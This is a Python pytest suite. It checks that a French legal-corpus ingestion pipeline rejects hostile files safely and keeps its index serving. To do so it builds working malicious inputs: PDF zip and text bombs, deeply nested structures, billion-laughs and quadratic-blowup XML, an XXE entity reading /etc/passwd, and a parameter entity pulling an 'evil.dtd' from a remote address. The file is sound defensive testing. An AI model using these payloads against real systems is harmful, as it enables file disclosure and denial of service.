"""Hostile documents: damaged, encrypted, huge and malformed PDF / HTML / XML / text files.

Every file is built here, by hand or with pypdf. Each one goes through the real ingestion
path (manifest entry -> `build_index`, parsing in a sandboxed child process) next to a good
document. Expected: a French `CorpusError` that says what is wrong and what to do, the
pytest process still alive, and the generation in service untouched.
"""

from __future__ import annotations

import io
import os
import re
import signal
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from assistant.base.errors import CorpusError, ParseError
from assistant.base.settings import PROJECT_ROOT
from assistant.ingest.corpus import MAX_FILE_BYTES, load_manifest, load_units
from assistant.ingest.parse_formex import parse_formex
from assistant.ingest.safeparse import Limits, ParseSandbox
from assistant.search.embed import FakeEmbedder
from assistant.search.index import build_index, current_generation, load_index

# --------------------------------------------------------------------------- file builders


def raw_pdf(objects: dict[int, bytes], *, root: int = 1, xref: bool = True) -> bytes:
    """A PDF written object by object, with a correct cross-reference table unless told not to."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = max(objects) + 1
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for num in range(1, size):
            out += b"%010d 00000 n \n" % offsets[num] if num in offsets else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start if xref else 0)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def text_ops(text: str) -> bytes:
    safe = text.replace("\\", "").replace("(", "").replace(")", "")
    return b"BT /F1 11 Tf 72 720 Td (" + safe.encode("latin-1") + b") Tj ET"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def text_pdf(pages: list[str]) -> bytes:
    """A valid PDF with one line of text per page (objects: catalog, pages, font, then pages)."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: FONT}
    kids = []
    for i, text in enumerate(pages):
        page, content = 4 + 2 * i, 5 + 2 * i
        kids.append(b"%d 0 R" % page)
        objects[page] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % content
        )
        objects[content] = stream(text_ops(text))
    objects[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % len(pages)
    return raw_pdf(objects)


WORDS = [
    "registre",
    "transparence",
    "supervision",
    "humaine",
    "donnees",
    "sobriete",
    "formation",
    "agents",
    "evaluation",
    "risques",
]
# Lines must differ beyond their digits: lines repeated on most pages are dropped as headers.
GOOD_PAGES = [f"Le deployeur tient compte de {WORDS[n]} et de {WORDS[n + 1]}." for n in range(8)]


def pdf_truncated() -> bytes:
    data = text_pdf(GOOD_PAGES)
    return data[: len(data) // 3]


def pdf_encrypted() -> bytes:
    from pypdf import PdfWriter

    w = PdfWriter()
    w.add_blank_page(595, 842)
    w.encrypt(user_password="secret", owner_password="owner")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def pdf_encrypted_empty_password() -> bytes:
    """Encrypted with an empty user password (owner restrictions only): readable, so accepted."""
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(GOOD_PAGES))))
    w.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def pdf_truncated_late() -> bytes:
    """Cut just before the cross-reference table: every page object is still there."""
    data = text_pdf(GOOD_PAGES)
    return data[: data.rindex(b"xref")]


def pdf_cyclic_pages() -> bytes:
    """Two page-tree nodes that are each other's only kid."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    )


def pdf_self_kid() -> bytes:
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"})


def pdf_deep_tree() -> bytes:
    """A page tree 3,000 levels deep (recursive walkers overflow)."""
    depth = 3000
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: FONT}
    for level in range(depth):
        num = 2 if level == 0 else 10 + level
        kid = 10 + level + 1
        parent = b"" if level == 0 else b"/Parent %d 0 R " % (2 if level == 1 else 10 + level - 1)
        objects[num] = b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, kid)
    last = 10 + depth
    objects[last] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>" % (last - 1)
    objects[4] = stream(text_ops("profond"))
    return raw_pdf(objects)


def pdf_deep_array() -> bytes:
    """A content stream whose operand is an array nested 200,000 times."""
    ops = b"[" * 200_000 + b"]" * 200_000 + b" TJ"
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            3: FONT,
            4: b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
            5: stream(ops),
        }
    )


def _deflated(pattern: bytes, size: int) -> bytes:
    z = zlib.compressobj(9)
    block = pattern * (1_048_576 // len(pattern))
    parts = [z.compress(block) for _ in range(size // len(block))]
    return b"".join(parts) + z.flush()


def pdf_zip_bomb() -> bytes:
    """One 256 MiB FlateDecode content stream (250 kB on disk)."""
    bomb = _deflated(b"\x00", 256 << 20)
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            3: FONT,
            4: b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
            5: stream(bomb, b"/Filter /FlateDecode "),
        }
    )


def pdf_text_bomb() -> bytes:
    """3,000 pages sharing one 2 MB content stream of text: a tiny file, hours of text extraction."""
    bomb = _deflated(b"BT /F1 9 Tf (Lorem ipsum dolor sit amet) Tj ET\n", 2 << 20)
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 3: FONT, 5: stream(bomb, b"/Filter /FlateDecode ")}
    kids = []
    for i in range(3000):
        kids.append(b"%d 0 R" % (10 + i))
        objects[10 + i] = b"<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>"
    objects[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count 3000 >>"
    return raw_pdf(objects)


def pdf_scanned() -> bytes:
    """Image-only pages, as a scanner makes them: no text at all."""
    pixels = bytes(range(64))
    image = stream(
        pixels, b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 3 0 R >> >> /Contents %d 0 R >>"
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [4 0 R 6 0 R] /Count 2 >>",
            3: image,
            4: page % 5,
            5: stream(b"q 500 0 0 700 50 70 cm /Im1 Do Q"),
            6: page % 7,
            7: stream(b"q 500 0 0 700 50 70 cm /Im1 Do Q"),
        }
    )


def pdf_no_xref() -> bytes:
    return raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}, xref=False)


def pdf_huge_count() -> bytes:
    """A page tree that claims a billion pages."""
    return raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        }
    )


EURLEX_ARTICLE = (
    '<div class="eli-subdivision" id="art_{n}"><p class="oj-ti-art">Article {n}</p>'
    '<div class="eli-title"><p class="oj-sti-art">Objet {n}</p></div>'
    '<div id="{n:03d}.001"><p class="oj-normal">1.   Le déployeur informe les personnes, cas {n}.</p></div></div>'
)


def eurlex_html(articles: int = 5) -> str:
    body = "".join(EURLEX_ARTICLE.format(n=n) for n in range(1, articles + 1))
    return f'<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"/></head><body>{body}</body></html>'


BILLION_LAUGHS_DTD = (
    '<!DOCTYPE {root} [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n' for i in range(1, 10)
    )
    + "]>\n"
)


def html_billion_laughs() -> bytes:
    body = EURLEX_ARTICLE.format(n=1).replace("cas 1", "&lol9;")
    return (BILLION_LAUGHS_DTD.format(root="html") + f"<html><body>{body}</body></html>").encode()


def html_deep_nesting() -> bytes:
    body = EURLEX_ARTICLE.format(n=1).replace("cas 1", "<div>" * 100_000 + "fond" + "</div>" * 100_000)
    return f"<html><body>{body}</body></html>".encode()


def html_invalid_utf8() -> bytes:
    return eurlex_html().encode().replace("déployeur".encode(), b"d\xe9ployeur\xff\xfe", 1)


FORMEX_ACT = (
    "<ACT><TITLE><TI><P>Regulation (EU) 2099/1 of the European Parliament</P></TI></TITLE>"
    "<PREAMBLE><GR.CONSID><CONSID><NP><NO.P>(1)</NO.P><TXT>Whereas {text}.</TXT></NP></CONSID></GR.CONSID></PREAMBLE>"
    '<ENACTING.TERMS><ARTICLE IDENTIFIER="001"><TI.ART>Article 1</TI.ART>'
    "<ALINEA>This Regulation applies. {text}</ALINEA></ARTICLE></ENACTING.TERMS></ACT>"
)


def formex(text: str = "it is fine", prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> bytes:
    return (prolog + FORMEX_ACT.format(text=text)).encode()


def xml_billion_laughs() -> bytes:
    return formex("&lol9;", '<?xml version="1.0"?>\n' + BILLION_LAUGHS_DTD.format(root="ACT"))


def xml_quadratic_blowup() -> bytes:
    dtd = '<?xml version="1.0"?>\n<!DOCTYPE ACT [<!ENTITY a "' + "x" * 100_000 + '">]>\n'
    return formex("&a;" * 50_000, dtd)


def xml_external_entity() -> bytes:
    return formex("&xxe;", '<?xml version="1.0"?>\n<!DOCTYPE ACT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')


def xml_parameter_entity() -> bytes:
    dtd = '<?xml version="1.0"?>\n<!DOCTYPE ACT [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n'
    return formex("&exfil;", dtd)


def xml_external_dtd() -> bytes:
    return formex("&secret;", '<?xml version="1.0"?>\n<!DOCTYPE ACT SYSTEM "file:///etc/passwd">\n')


def xml_truncated() -> bytes:
    data = formex("a long enough sentence " * 20)
    return data[: len(data) * 2 // 3]


def xml_invalid_utf8() -> bytes:
    return formex("caf\xe9").replace("café".encode(), b"caf\xe9\xff")


def xml_deep_nesting() -> bytes:
    return formex("<P>" * 100_000 + "deep" + "</P>" * 100_000)


def text_doc(paragraphs: int = 6) -> str:
    return "\n\n".join(
        f"Paragraphe {n}. Le déployeur tient un registre des usages, cas {n}." for n in range(paragraphs)
    )


def garbage(size: int = 200_000, seed: int = 8) -> bytes:
    import random

    return bytes(random.Random(seed).randrange(256) for _ in range(size))


def pdf_garbage() -> bytes:
    return b"%PDF-1.7\n" + garbage() + b"\n%%EOF\n"


def docx_like() -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("word/document.xml", "<w:document>Charte</w:document>")
    return buf.getvalue()


def charter_many_lines() -> bytes:
    """7 MB of short lines joined into one paragraph: ~10–20 s of parsing, well over the 3 s test deadline."""
    return ("Défi 1 : accessible.\n" + "\n".join("mot" + "-mot" * 20 for _ in range(300_000))).encode()


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # manifest kind
    file: str  # file name in the corpus directory (its extension may lie)
    make: Callable[[], bytes]
    expect: str  # regex the French message must match
    pages_file: bool = False  # the bytes are the page-number PDF of a (good) EUR-Lex document


def _c(name: str, kind: str, ext: str, make: Callable[[], bytes], expect: str, **kw: bool) -> Case:
    return Case(name, kind, f"{name}.{ext}", make, expect, **kw)


def _b(data: bytes | str) -> Callable[[], bytes]:
    return lambda: data.encode() if isinstance(data, str) else data


UNREADABLE = r"illisible|limites de lecture sûre"
NOT_WELL_FORMED = r"n'est pas un XML bien formé"
ENTITIES = r"déclare des entités XML|" + NOT_WELL_FORMED

CASES = [
    # PDF read by the generic parser (kind = "pdf")
    _c("pdf-truncated", "pdf", "pdf", pdf_truncated, r"semble tronqué"),
    _c("pdf-truncated-late", "pdf", "pdf", pdf_truncated_late, r"semble tronqué"),
    _c("pdf-encrypted", "pdf", "pdf", pdf_encrypted, r"protégé par un mot de passe"),
    _c("pdf-cyclic-pages", "pdf", "pdf", pdf_cyclic_pages, UNREADABLE),
    _c("pdf-self-kid", "pdf", "pdf", pdf_self_kid, UNREADABLE),
    _c("pdf-deep-tree", "pdf", "pdf", pdf_deep_tree, r"limites de lecture sûre"),
    _c("pdf-deep-array", "pdf", "pdf", pdf_deep_array, UNREADABLE),
    _c("pdf-zip-bomb", "pdf", "pdf", pdf_zip_bomb, r"limites de lecture sûre|limite de mémoire"),
    _c("pdf-scanned", "pdf", "pdf", pdf_scanned, r"Aucun texte extractible.*OCR"),
    _c("pdf-no-xref", "pdf", "pdf", pdf_no_xref, r"Aucun texte extractible|" + UNREADABLE),
    _c("pdf-garbage", "pdf", "pdf", pdf_garbage, UNREADABLE),
    _c("pdf-billion-pages", "pdf", "pdf", pdf_huge_count, r"Aucun texte extractible"),
    _c("pdf-empty", "pdf", "pdf", _b(b""), r"est vide \(0 octet\)"),
    _c("pdf-is-html", "pdf", "pdf", _b(eurlex_html()), r"devrait être un PDF mais c'est du HTML ou du XML"),
    _c("pdf-is-docx", "pdf", "pdf", docx_like, r"devrait être un PDF mais c'est une archive ZIP"),
    # PDF giving the page numbers of an EUR-Lex text (pages_file)
    _c("pages-cyclic", "eurlex-html", "html", pdf_cyclic_pages, UNREADABLE, pages_file=True),
    _c("pages-encrypted", "eurlex-html", "html", pdf_encrypted, r"mot de passe", pages_file=True),
    _c("pages-is-text", "eurlex-html", "html", _b("pas un PDF"), r"devrait être un PDF", pages_file=True),
    # EUR-Lex HTML
    _c("html-empty", "eurlex-html", "html", _b(b""), r"est vide"),
    _c("html-blank", "eurlex-html", "html", _b(b"  \n\n "), r"devrait être une page HTML mais c'est du texte"),
    _c("html-truncated", "eurlex-html", "html", _b(eurlex_html()[:700]), r"semble tronqué"),
    _c("html-invalid-utf8", "eurlex-html", "html", html_invalid_utf8, r"n'est pas un texte UTF-8 valide"),
    _c("html-utf16", "eurlex-html", "html", _b(eurlex_html().encode("utf-16")), r"UTF-16 : convertissez"),
    _c("html-deep-nesting", "eurlex-html", "html", html_deep_nesting, r"est malformé.*Excessive depth"),
    _c("html-is-pdf", "eurlex-html", "html", _b(text_pdf(GOOD_PAGES)), r"devrait être une page HTML mais c'est un PDF"),
    _c("html-binary", "eurlex-html", "html", _b(b"\x01\x00" + garbage()), r"c'est un fichier binaire"),
    _c("html-no-article", "eurlex-html", "html", _b("<html><body><p>Rien</p></body></html>"), r"Aucun article"),
    # Formex XML
    _c("xml-billion-laughs", "formex-xml", "xml", xml_billion_laughs, ENTITIES),
    _c("xml-quadratic-blowup", "formex-xml", "xml", xml_quadratic_blowup, ENTITIES),
    _c("xml-external-entity", "formex-xml", "xml", xml_external_entity, ENTITIES),
    _c("xml-parameter-entity", "formex-xml", "xml", xml_parameter_entity, ENTITIES),
    _c("xml-truncated", "formex-xml", "xml", xml_truncated, NOT_WELL_FORMED),
    _c("xml-invalid-utf8", "formex-xml", "xml", xml_invalid_utf8, NOT_WELL_FORMED),
    _c("xml-deep-nesting", "formex-xml", "xml", xml_deep_nesting, NOT_WELL_FORMED),
    _c("xml-is-pdf", "formex-xml", "xml", _b(text_pdf(GOOD_PAGES)), r"devrait être un fichier XML mais c'est un PDF"),
    _c("xml-not-formex", "formex-xml", "xml", _b("<ANNEX><TITLE>Annexe</TITLE></ANNEX>"), r"Aucun article"),
    _c("xml-empty", "formex-xml", "xml", _b(b""), r"est vide"),
    # Plain text (generic parser) and the charter text
    _c("text-invalid-utf8", "text", "txt", _b(b"Texte " + b"\xff\xfe\xc3(" * 10), r"n'est pas un texte UTF-8"),
    _c("text-empty", "text", "txt", _b(b""), r"est vide"),
    _c("text-blank", "text", "txt", _b("\n \n\t\n"), r"ne contient aucun texte"),
    _c("text-is-pdf", "text", "txt", _b(text_pdf(GOOD_PAGES)), r"devrait être un texte UTF-8 mais c'est un PDF"),
    _c("text-nul-bytes", "text", "txt", _b("Texte\x00avec\x00des\x00NUL"), r"c'est un fichier binaire"),
    _c("text-utf16", "text", "txt", _b(text_doc().encode("utf-16")), r"UTF-16 : convertissez"),
    _c("text-is-png", "text", "txt", _b(b"\x89PNG\r\n\x1a\n" + garbage(2000)), r"c'est une image PNG"),
    _c("charter-invalid-utf8", "charter-text", "txt", _b(b"D\xe9fi 1 : accessible"), r"n'est pas un texte UTF-8"),
    _c("charter-no-defi", "charter-text", "txt", _b(text_doc()), r"aucun « Défi » reconnu"),
    _c("charter-is-docx", "charter-text", "txt", docx_like, r"c'est une archive ZIP"),
]

# Files that hang a parser for minutes to hours: the per-document deadline must end them.
HANGS = [
    _c("pdf-text-bomb", "pdf", "pdf", pdf_text_bomb, ""),
    _c("charter-many-lines", "charter-text", "txt", charter_many_lines, ""),
]

ACTION = re.compile(
    r"remplacez|fournissez|corrigez|vérifiez|téléchargez|augmentez|placez|convertissez|ré-extrayez|découpez|"
    r"utilisez|récupérez|indiquez",
    re.IGNORECASE,
)
LIMITS = Limits(seconds=60, memory_mb=768)  # generous: no case may come near them


# --------------------------------------------------------------------------- harness


def manifest_entry(doc_id: str, kind: str, file: str, pages_file: str = "") -> str:
    pages = f'pages_file = "{pages_file}"\n' if pages_file else ""
    return (
        f'[[document]]\ndoc_id = "{doc_id}"\ntitle = "Document {doc_id}"\nlang = "fr"\nkind = "{kind}"\n'
        f'file = "{file}"\nsha256 = ""\n{pages}version = "v1"\ndate = "2025-01-01"\n'
    )


@dataclass
class Served:
    """A corpus directory with one good document and an index built from it."""

    corpus: Path
    index: Path
    generation: str
    chunks: int

    def build(self, entries: list[str], name: str, limits: Limits = LIMITS):
        manifest = self.corpus / f"{name}.toml"
        manifest.write_text("\n".join([manifest_entry("bon", "text", "bon.txt"), *entries]), encoding="utf-8")
        return build_index(
            manifest_path=manifest,
            corpus_dir=self.corpus,
            index_dir=self.index,
            embedder_factory=FakeEmbedder,
            embedder_name=FakeEmbedder().name,
            force=True,
            parse_limits=limits,
        )

    def assert_untouched(self) -> None:
        assert current_generation(self.index) == self.generation
        idx = load_index(self.index)
        assert idx.path.name == self.generation
        assert idx.dense.ntotal == len(idx.chunks) == self.chunks
        assert not [p for p in self.index.iterdir() if p.name.startswith((".tmp-", ".del-"))]


@pytest.fixture(scope="module")
def served(tmp_path_factory) -> Served:
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "bon.txt").write_text(text_doc(), encoding="utf-8")
    (corpus / "bon-eurlex.html").write_text(eurlex_html(), encoding="utf-8")
    s = Served(corpus, root / "index", "", 0)
    report = s.build([], "initial")
    s.generation, s.chunks = report.generation, report.chunks
    return s


def _write_case(served: Served, case: Case) -> list[str]:
    (served.corpus / case.file).write_bytes(case.make())
    if case.pages_file:
        return [manifest_entry(case.name, case.kind, "bon-eurlex.html", pages_file=case.file)]
    return [manifest_entry(case.name, case.kind, case.file)]


def _refusal(served: Served, case: Case, limits: Limits = LIMITS) -> str:
    with pytest.raises(CorpusError) as err:
        served.build(_write_case(served, case), case.name, limits)
    return str(err.value)


# --------------------------------------------------------------------------- tests


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_document_is_refused_in_french_and_the_index_keeps_serving(served, case):
    message = _refusal(served, case)
    assert re.search(case.expect, message, re.DOTALL), message
    assert case.name in message or case.file in message, message  # which document
    assert ACTION.search(message), message  # what to do
    assert "reste" in message, message  # the index in service is untouched, and the user is told
    served.assert_untouched()


@pytest.mark.parametrize("case", HANGS, ids=[c.name for c in HANGS])
def test_a_document_that_hangs_its_parser_is_stopped_at_the_deadline(served, case):
    message = _refusal(served, case, Limits(seconds=3, memory_mb=768))
    assert "dépasse la limite de 3 s" in message and "ASSISTANT_PARSE_TIMEOUT" in message, message
    served.assert_untouched()


def test_a_document_too_big_for_the_memory_limit_is_refused(served):
    big = Case("texte-geant", "text", "texte-geant.txt", _b(("mot " * 20 + "\n") * 600_000), "")
    message = _refusal(served, big, Limits(seconds=60, memory_mb=200))
    assert "limite de mémoire (200 Mo)" in message and "ASSISTANT_PARSE_MEMORY_MB" in message, message
    served.assert_untouched()


def test_a_file_over_the_size_limit_is_refused_before_being_read(served):
    with (served.corpus / "enorme.pdf").open("wb") as f:
        f.truncate(MAX_FILE_BYTES + 1)  # sparse: no disk space used
    with pytest.raises(CorpusError, match="démesuré") as err:
        served.build([manifest_entry("enorme", "pdf", "enorme.pdf")], "enorme")
    assert "reste" in str(err.value)
    served.assert_untouched()


def test_a_device_instead_of_a_file_is_refused(served):
    link = served.corpus / "zero.txt"
    link.unlink(missing_ok=True)
    link.symlink_to("/dev/zero")  # reading it would never end
    with pytest.raises(CorpusError, match="n'est pas un fichier ordinaire"):
        served.build([manifest_entry("zero", "text", "zero.txt")], "zero")
    served.assert_untouched()


def test_a_parser_that_dies_is_reported_and_the_next_document_parses(served):
    """A worker killed by a signal (as a segfault in a C parser would) is replaced."""
    hang = HANGS[1]
    (served.corpus / hang.file).write_bytes(hang.make())
    docs = {d.doc_id: d for d in load_manifest_text(served, [manifest_entry(hang.name, hang.kind, hang.file)])}
    with ParseSandbox(Limits(seconds=60, memory_mb=768)) as sandbox:
        killer = threading.Timer(1.0, lambda: os.kill(sandbox._proc.pid, signal.SIGSEGV))
        killer.start()
        try:
            with pytest.raises(ParseError, match=r"arrêté brutalement \(signal SIGSEGV") as err:
                sandbox.load_units(docs[hang.name], served.corpus)
        finally:
            killer.cancel()
        assert ACTION.search(str(err.value))
        units = sandbox.load_units(docs["bon"], served.corpus)
    assert units == load_units(docs["bon"], served.corpus)


def test_a_build_killed_mid_parse_leaves_no_worker_running(tmp_path):
    """The worker dies with the build (PR_SET_PDEATHSIG): no orphan left parsing a bomb."""
    (tmp_path / "long.txt").write_bytes(charter_many_lines())
    script = (
        "from pathlib import Path\n"
        "from assistant.ingest.corpus import Document\n"
        "from assistant.ingest.safeparse import Limits, load_units_isolated\n"
        "doc = Document('long', 'Long', 'Long', 'fr', 'charter-text', 'long.txt', '', 'v', 'd')\n"
        f"load_units_isolated(doc, Path({str(tmp_path)!r}), None, Limits(600, 768))\n"
    )
    build = subprocess.Popen([sys.executable, "-c", script])
    try:
        children = Path(f"/proc/{build.pid}/task/{build.pid}/children")
        deadline = time.monotonic() + 60  # a safety limit, not a timing assertion
        while not children.read_text().split() and time.monotonic() < deadline:
            time.sleep(0.05)
        worker = int(children.read_text().split()[0])
        time.sleep(0.5)  # let it start parsing
    finally:
        build.kill()
        build.wait()
    deadline = time.monotonic() + 60
    while _running(worker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _running(worker)


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state not in ("Z", "X")


def load_manifest_text(served: Served, entries: list[str]):
    path = served.corpus / "direct.toml"
    path.write_text("\n".join([manifest_entry("bon", "text", "bon.txt"), *entries]), encoding="utf-8")
    return load_manifest(path)


def test_several_hostile_documents_are_reported_together(served):
    by_name = {c.name: c for c in CASES}
    chosen = [by_name[n] for n in ("pdf-encrypted", "html-empty", "xml-billion-laughs")]
    entries = [e for case in chosen for e in _write_case(served, case)]
    with pytest.raises(CorpusError) as err:
        served.build(entries, "ensemble")
    message = str(err.value)
    assert message.startswith("3 documents refusés, rien n'a été indexé.")
    assert f"L'index en service ({served.generation}) reste inchangé." in message
    assert all(c.name in message for c in chosen)
    served.assert_untouched()


def test_readable_oddities_are_indexed_without_expanding_or_leaking_anything(served, tmp_path):
    """Accepted, and harmless: an owner-password-only PDF, entities in HTML, an external DTD."""
    files = {
        "chiffre-sans-mot-de-passe.pdf": pdf_encrypted_empty_password(),
        "rires.html": html_billion_laughs(),
        "dtd-externe.xml": xml_external_dtd(),
    }
    for name, data in files.items():
        (served.corpus / name).write_bytes(data)
    entries = [
        manifest_entry("pdf-proprietaire", "pdf", "chiffre-sans-mot-de-passe.pdf"),
        manifest_entry("html-entites", "eurlex-html", "rires.html"),
        manifest_entry("xml-dtd", "formex-xml", "dtd-externe.xml"),
    ]
    report = served.build(entries, "acceptes")
    try:
        idx = load_index(served.index)
        texts = {c.doc_id: " ".join(x.text for x in idx.chunks if x.doc_id == c.doc_id) for c in idx.chunks}
        assert "registre et de transparence" in texts["pdf-proprietaire"]
        assert "lollol" not in texts["html-entites"] and len(texts["html-entites"]) < 2000
        assert "root:" not in texts["xml-dtd"] and "This Regulation applies." in texts["xml-dtd"]
    finally:  # put the one-document index back in service for the other tests
        restored = served.build([], "restauration")
        served.generation, served.chunks = restored.generation, restored.chunks
    assert report.generation != served.generation


def test_formex_parser_never_expands_entities_nor_reads_external_files(tmp_path):
    for make in (xml_billion_laughs, xml_quadratic_blowup, xml_external_entity, xml_parameter_entity):
        path = tmp_path / f"{make.__name__}.xml"
        path.write_bytes(make())
        with pytest.raises(ParseError) as err:
            parse_formex(path)
        assert "root:" not in str(err.value)
    path = tmp_path / "dtd.xml"
    path.write_bytes(xml_external_dtd())
    assert all("root:" not in u.text for u in parse_formex(path))


def test_sandboxed_parsing_gives_the_same_units_as_in_process(corpus):
    docs = {d.doc_id: d for d in load_manifest(PROJECT_ROOT / "corpus" / "sources.toml")}
    with ParseSandbox() as sandbox:
        for doc_id in ("ai-act-2026-1744", "charte", "ai-act-en"):
            assert sandbox.load_units(docs[doc_id], corpus) == load_units(docs[doc_id], corpus)


@pytest.mark.parametrize("answer", [b"pas du JSON", b'{"units": [{"evil": 1}]}', b"[1, 2]", b'{"units": 3}'])
def test_a_malformed_answer_from_the_worker_is_a_french_error(answer):
    from assistant.ingest.corpus import Document
    from assistant.ingest.safeparse import _decode

    doc = Document("x", "X", "X", "fr", "text", "x.txt", "", "v", "d")
    with pytest.raises(ParseError, match="réponse invalide du processus d'analyse"):
        _decode(doc, answer, LIMITS)


def test_parse_limits_are_declared_settings(monkeypatch):
    """The per-document limits are ordinary settings (shown by `assistant config`), read at each build;
    a value that is not a number is refused with the variable to fix."""
    from assistant.base.errors import ConfigError
    from assistant.base.settings import Settings

    names = {name for name, *_ in Settings.load().describe()}
    assert {"parse_timeout", "parse_memory_mb"} <= names
    monkeypatch.setenv("ASSISTANT_PARSE_TIMEOUT", "7")
    monkeypatch.setenv("ASSISTANT_PARSE_MEMORY_MB", "512")
    assert Limits.from_env() == Limits(seconds=7.0, memory_mb=512)
    monkeypatch.setenv("ASSISTANT_PARSE_MEMORY_MB", "beaucoup")
    with pytest.raises(ConfigError, match="ASSISTANT_PARSE_MEMORY_MB"):
        Limits.from_env()
